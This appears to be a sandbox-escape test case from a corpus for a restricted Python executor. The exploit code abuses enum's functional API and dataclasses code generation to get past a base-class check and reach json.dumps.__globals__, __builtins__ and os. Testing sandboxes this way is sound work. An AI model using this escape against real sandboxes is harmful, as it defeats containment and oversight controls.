# technique: the class guard checks the bases of the snippet's classes only when their __module__ is '__main__'; enum's functional API takes module= (any allowed module passes) and type= (a mixin base), so Enum('Lying', [('name', property(...)), ('m', field args)], module='random', type=dataclasses.Field) is a dataclasses.Field subclass whose name is a property (the fix of 144 refuses Field as a base for '__main__' classes only); a member used as a field default is taken by dataclasses as the field itself, its name answers 'a=EXPR,_return_type=None,**k):#' whenever dataclasses reads it, after the runtime's field-name check: the text is compiled and exec'd by dataclasses (trusted by the audit hook) and EXPR runs with no code check at all
# source: 144 (dataclasses code generation from Field.name) revived through enum's functional API (module=/type= from data) past a base check that depends on __module__

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, enum, json, random

SINK = []
M = dataclasses.MISSING


def run(expr):
    text = 'a=SINK.append(' + expr + '),_return_type=None,**k):#'

    def get_name(self):
        return text

    def set_name(self, value):
        pass

    Lying = enum.Enum('Lying', [('name', property(get_name, set_name)),
                                ('m', (0, M, False, False, None, False, None, False))],
                      module='random', type=dataclasses.Field)

    @dataclasses.dataclass(repr=False, eq=False)
    class C:
        a: int = Lying.m
    return SINK.pop()

attempt('Field subclass via Enum(module=, type=): json.dumps.__globals__',
        lambda: run('json.dumps.' + dn('globals')))
attempt("... json.dumps.__globals__['__builtins__']",
        lambda: run('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + ']'))
attempt("... random.seed.__globals__['_os']",
        lambda: run('random.seed.' + dn('globals') + "['_os']"))
